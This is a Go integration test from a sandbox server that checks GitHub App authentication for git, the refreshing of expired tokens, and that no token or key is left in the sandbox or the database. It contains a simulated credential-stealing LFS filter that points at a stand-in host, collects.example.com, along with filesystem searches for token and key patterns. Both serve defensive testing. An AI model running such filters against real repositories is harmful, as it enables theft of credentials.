package server_test

import (
	"crypto/x509"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/arbe-dev/arbe/db/dbtest"
	"github.com/arbe-dev/arbe/internal/gitdoor/gitdoortest"
	arbev1 "github.com/arbe-dev/arbe/proto/arbe/v1"
)

// A sandbox lives longer than the tokens of a GitHub App. Git in it works all the time, and nothing keeps a token.
func TestGitInASandboxUsesAGitHubApp(t *testing.T) {
	t.Parallel()
	github := gitdoortest.New(t, "ada/engine")
	work := filepath.Join(t.TempDir(), "work")
	for _, argv := range [][]string{
		{"git", "init", "--quiet", "--initial-branch=main", work},
		{"sh", "-c", "echo one > " + work + "/file"},
		{"git", "-C", work, "add", "."},
		{"git", "-C", work, "-c", "user.name=Ada", "-c", "user.email=ada@example.com", "commit", "--quiet", "-m", "first"},
		{"git", "-C", work, "push", "--quiet", filepath.Join(github.Root, "ada/engine.git"), "main"},
	} {
		if out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%q: %v: %s", argv, err, out)
		}
	}
	cfg := settings(t)
	cfg.DatabaseURL, cfg.Local.PrivateHosts = dbtest.Migrated(t), []string{github.Host}
	cfg.GitAuthorities = x509.NewCertPool()
	cfg.GitAuthorities.AddCert(github.Certificate())
	start(t, cfg)
	c := client(t, cfg)
	first := newThread(t, c)
	if got := output(t, cfg, first, "grep -c nameserver /etc/resolv.conf; true"); !strings.HasSuffix(got, "1\n") {
		t.Skip("this machine cannot redirect the connections of sandboxes")
	}
	th, err := c.Threads.GetThread(t.Context(), &arbev1.GetThreadRequest{Id: first})
	if err != nil {
		t.Fatal(err)
	}
	house := th.Thread.HouseId
	set := func(value string) {
		t.Helper()
		if _, err := c.Secrets.SetSecret(t.Context(), &arbev1.SetSecretRequest{HouseId: house, Name: "APP_KEY", Value: []byte(value)}); err != nil {
			t.Fatal(err)
		}
	}
	made, err := c.Environments.CreateEnvironment(t.Context(), &arbev1.CreateEnvironmentRequest{HouseId: house, Name: "of the app", Config: &arbev1.EnvironmentConfig{
		Repo: github.URL + "/ada/engine", Git: []*arbev1.GitCredential{{Host: github.Host, Secret: "APP_KEY", GithubApp: gitdoortest.AppID}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	thread := func() string {
		t.Helper()
		made, err := c.Threads.CreateThread(t.Context(), &arbev1.CreateThreadRequest{HouseId: house, EnvironmentId: made.Environment.Id})
		if err != nil {
			t.Fatal(err)
		}
		return made.Thread.Id
	}
	set("ghp_this-is-not-a-key")
	if got := output(t, cfg, thread(), "true"); !strings.Contains(got, "the secret of the GitHub App 4711 is not an RSA private key in PEM form; create a private key") {
		t.Errorf("with something else as its key a command gets %q", got)
	}
	set(github.Key)
	id := thread()
	if got := output(t, cfg, id, "cat file"); got != "one\n" {
		t.Fatalf("the sandbox has %q", got)
	}
	const push = `git -c user.name=Bot -c user.email=bot@example.com commit -q --allow-empty -m pushed && git push -q origin main 2>&1 && git fetch && git log -1 --format=%s origin/main`
	for range 2 {
		before := len(github.Tokens())
		github.Advance(gitdoortest.TokenLife + time.Second)
		if got := output(t, cfg, id, push); got != "pushed\n" {
			t.Errorf("after its tokens have expired, git prints %q", got)
		}
		if made := len(github.Tokens()) - before; made < 2 {
			t.Errorf("%d tokens were made, want one to read and one to write", made)
		}
	}

	// A filter for LFS that a repository sends to a host of its choice finds no credential, neither in the box nor at the door.
	filter := `export GIT_TERMINAL_PROMPT=0; git config --global filter.lfs.smudge 'cat >/dev/null
			printf "protocol=https\nhost=` + github.Host + `\n\n" | git credential fill 2>&1; git config -f .lfsconfig lfs.url
			curl -sS -d {} http://arbe.internal/git/` + github.Host + `/ada/engine.git/info/lfs/objects/batch'
		printf '[lfs]\n\turl = https://collects.example.com/lfs\n' > .lfsconfig; echo '*.bin filter=lfs' > .gitattributes; echo pointer > a.bin
		git add . && git -c user.name=Bot -c user.email=bot@example.com commit -q -m lfs && rm a.bin && git checkout -q a.bin; cat a.bin; git config --global --unset filter.lfs.smudge`
	refused := github.Refused()
	if got := output(t, cfg, id, filter); !strings.Contains(got, "could not read Username") || !strings.Contains(got, "https://collects.example.com/lfs") || !strings.Contains(got, "LFS does not work") ||
		strings.Contains(got, "password=") || strings.Contains(got, "ghs_") || github.Refused() != refused {
		t.Errorf("the filter finds %q, and the host was asked %d times", got, github.Refused()-refused)
	}

	github.Uninstall("ada/engine")
	github.Advance(gitdoortest.TokenLife + time.Second)
	if got := output(t, cfg, id, "git fetch 2>&1"); !strings.Contains(got, "the GitHub App 4711 is not installed on ada/engine") {
		t.Errorf("once the App is uninstalled git prints %q", got)
	}

	// Neither the box nor the server's data contains a token or the key. The box is searched for their prefixes, and the data
	// for their values.
	const look = `{ env; cat ~/.gitconfig .git/config; } | grep -e ghs"_" -e 'PRIVATE'" KEY" -e eyJ"hbGci"; sync
		grep -rlsI -e ghs"_" -e 'RSA PRIVATE'" KEY" -e eyJ"hbGci" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr | head`
	if got := output(t, cfg, id, look); got != "" {
		t.Errorf("the sandbox has a token, a claim or the key: %q", got)
	}
	owner, err := pgx.Connect(t.Context(), cfg.DatabaseURL)
	if err != nil {
		t.Fatal(err)
	}
	defer owner.Close(t.Context())
	for _, secret := range append(github.Tokens(), strings.Split(github.Key, "\n")[1]) {
		if where := dbtest.Grep(t, owner, secret); len(where) > 0 {
			t.Errorf("the database has a token or the key: %q", where)
		}
		if out, err := exec.Command("grep", "-rlsF", "-e", secret, cfg.DataDir).Output(); err == nil {
			t.Errorf("the data directory, with the disks of sandboxes, has a token or the key: %s", out)
		}
	}
}
